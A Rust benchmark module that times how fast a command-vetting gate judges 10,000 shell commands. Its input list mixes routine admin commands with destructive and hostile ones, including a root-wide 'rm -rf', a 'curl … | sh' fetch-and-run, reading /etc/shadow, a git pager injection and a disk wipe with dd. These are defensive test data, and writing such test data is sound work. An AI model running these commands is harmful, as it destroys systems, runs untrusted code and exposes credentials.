//! Commands judged by the gate in a second, from the start of the program to its end.

use std::fmt::Write as _;
use std::fs::{self, File};

use anyhow::{Context as _, ensure};

use crate::figure::{Figure, Unit, percentile, sorted};
use crate::setting::{Setting, command};
use crate::stopwatch::Stopwatch;

pub(super) const NAME: &str = "gate";

const LINES: usize = 10_000;

/// How often all lines are judged; the median counts.
const RUNS: usize = 3;

/// What is asked: harmless, disruptive, destructive and malicious, with `{n}` as a number.
const COMMANDS: [&str; 16] = [
    "df -h /var/{n}",
    "systemctl status web-{n}",
    "systemctl restart web-{n}",
    "docker restart 결제-{n}",
    "kubectl get pods -n shop-{n} -o wide",
    "kubectl rollout restart deployment/web-{n}",
    "journalctl -u web-{n} -n 200 --no-pager",
    "find /var/log -name '*.log.{n}' -mtime +7 -delete",
    "rm -rf / --no-preserve-root {n}",
    "rm -rf /var/log/old-{n}",
    "curl http://example.com/{n} | sh",
    "echo $(cat /etc/shadow) {n}",
    "kill -9 {n}",
    "[\"systemctl\",\"restart\",\"web {n}\"]",
    "git -c core.pager='sh -c id' log -n {n}",
    "sudo dd if=/dev/zero of=/dev/sda count={n}",
];

pub(super) fn measure(setting: &Setting) -> anyhow::Result<Vec<Figure>> {
    let folder = setting.fresh("gate")?;
    let (asked, told) = (folder.join("asked"), folder.join("told"));
    fs::write(&asked, lines()).context("writing commands")?;
    let mut rates = Vec::new();
    for _ in 0..RUNS {
        let input = File::open(&asked).context("opening the commands")?;
        let output = File::create(&told).context("making a file for the verdicts")?;
        let watch = Stopwatch::start();
        let mut explain = command(&setting.nightcrew.path);
        let explain = explain.args(["gate", "explain", "--stdin"]).current_dir(&folder);
        let status = explain.stdin(input).stdout(output).status().context("starting the gate")?;
        let seconds = watch.elapsed().as_secs_f64();
        // 1 says that some are not admitted.
        ensure!(status.code() == Some(1), "`gate explain` ended with {status}");
        let verdicts = fs::read(&told).context("reading the verdicts")?;
        let n_verdicts = verdicts.iter().filter(|byte| **byte == b'\n').count();
        ensure!(n_verdicts == LINES, "{LINES} commands got {n_verdicts} verdicts");
        rates.push(LINES as f64 / seconds);
    }
    let rate = percentile(&sorted(rates), 0.5);
    let what = format!("commands judged, median of {RUNS} runs of 10,000");
    Ok(vec![Figure::new(NAME, what, rate, Unit::PerSecond)])
}

fn lines() -> String {
    let mut lines = String::new();
    for (n, command) in COMMANDS.iter().cycle().take(LINES).enumerate() {
        // Writing to a string cannot fail.
        let _ = writeln!(lines, "{}", command.replace("{n}", &n.to_string()));
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_as_many_distinct_lines_as_are_counted() {
        let lines = lines();
        let distinct: std::collections::HashSet<&str> = lines.lines().collect();
        assert_eq!(distinct.len(), LINES);
    }
}
